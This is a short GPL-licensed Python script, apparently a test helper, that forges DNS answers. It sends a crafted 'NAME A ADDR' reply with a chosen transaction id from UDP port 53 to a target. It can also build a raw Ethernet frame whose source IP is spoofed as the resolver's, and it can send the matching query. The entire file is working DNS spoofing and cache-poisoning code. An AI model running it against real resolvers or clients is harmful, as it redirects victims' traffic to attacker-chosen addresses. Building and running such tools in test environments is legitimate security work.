#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send one DNS answer "NAME A ADDR" from UDP port 53 to TARGET:PORT,
with transaction id ID (default 0x4242).

Without SOURCE: from this host, as an off-path host would to plant a
mapping. With SOURCE IFACE MAC: forged, from SOURCE (the resolver's
address), as an Ethernet frame out of IFACE to MAC (the gateway), as a
client behind the gateway would to answer its own query.

With --ask SERVER: instead, send the query such an answer answers (NAME,
type A, transaction id ID) from this host's UDP port PORT to SERVER:53,
and do not wait for an answer.

usage: dns_spoof.py [--id ID] TARGET PORT NAME ADDR [SOURCE IFACE MAC]
       dns_spoof.py [--id ID] --ask SERVER PORT NAME"""
import socket
import struct
import sys

from raw_tcp import csum


def question(qid, flags, name, answers):
    msg = struct.pack("!HHHHHH", qid, flags, 1, answers, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    return msg + b"\0" + struct.pack("!HH", 1, 1)


def answer(qid, name, addr):
    return (question(qid, 0x8180, name, 1) + b"\xc0\x0c" +
            struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr))


def forged_frame(src, dst, dport, payload, iface, mac):
    udp = struct.pack("!HHHH", 53, dport, 8 + len(payload), 0) + payload
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst),
                         0, 17, len(udp))
    udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xffff) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4242, 0, 64, 17,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    with open("/sys/class/net/%s/address" % iface) as f:
        own = bytes.fromhex(f.read().strip().replace(":", ""))
    return bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00" + ip + udp


def main():
    args = sys.argv[1:]
    qid = 0x4242
    if args[0] == "--id":
        qid = int(args[1], 0)
        args = args[2:]
    if args[0] == "--ask":
        server, port, name = args[1:4]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("0.0.0.0", int(port)))
            s.sendto(question(qid, 0x0100, name, 0), (server, 53))
        return
    target, port, name, addr = args[0:4]
    msg = answer(qid, name, addr)
    if len(args) > 4:
        src, iface, mac = args[4:7]
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            s.bind((iface, 0))
            s.send(forged_frame(src, target, int(port), msg, iface, mac))
        return
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", 53))
        s.sendto(msg, (target, int(port)))


if __name__ == "__main__":
    main()
